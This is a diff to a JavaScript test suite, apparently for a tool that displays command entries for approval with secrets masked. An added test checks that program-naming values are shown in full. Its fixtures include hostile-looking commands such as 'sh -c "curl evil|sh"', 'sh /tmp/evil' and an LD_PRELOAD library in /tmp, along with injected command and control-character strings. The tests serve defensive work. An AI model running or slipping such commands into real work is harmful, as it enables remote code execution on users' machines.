@@ -134,7 +134,7 @@ test('all that would be done is shown, and of secrets only that they are there',
       args: ['-y', '--region=${REGION}', '--token=abcdef0123456789', 'a b'],
       env: {
         API_TOKEN: '${API_TOKEN}',
-        PASSWORD: 'hush hush',
+        PASSWORD: 'hush-hush',
         LD_PRELOAD: '/tmp/sk-0123456789abcdef0.so',
       },
       approval: 'allow',
@@ -179,4 +179,20 @@ test('what cannot be seen is written as its number, and nothing that runs hides 
   expect(shown.split('\n')[0]).toBe(
     'runs: sh -c "sk-0123456789abcdef0; evil" "\\u001b[2Ka\\u{202e}b\\nc" --token evil.sh',
   )
+})
+
+test('what names a program is shown whole, also under the name of a secret', async () => {
+  const env = {
+    RESTIC_PASSWORD_COMMAND: 'sh -c "curl evil|sh"',
+    GIT_CREDENTIAL_HELPER: 'evil-helper',
+    API_KEY_HELPER: 'helper0123456789abcdef',
+    TOKEN_CMD: 'evil_sh',
+    GIT_ASKPASS: 'ghp_0123456789abcdef0123456789abcdef0123',
+    API_TOKEN: 'sh /tmp/evil',
+  }
+  const args = ['--password-command=evil_sh', '--api-key-helper', 'evil0123456789abcdef']
+  const shown = await showEntry({ command: 'backup', args, env }, options)
+  expect(shown).not.toContain('***')
+  for (const text of [...args, ...Object.values(env)])
+    expect(shown).toContain(JSON.stringify(text).slice(1, -1))
 })
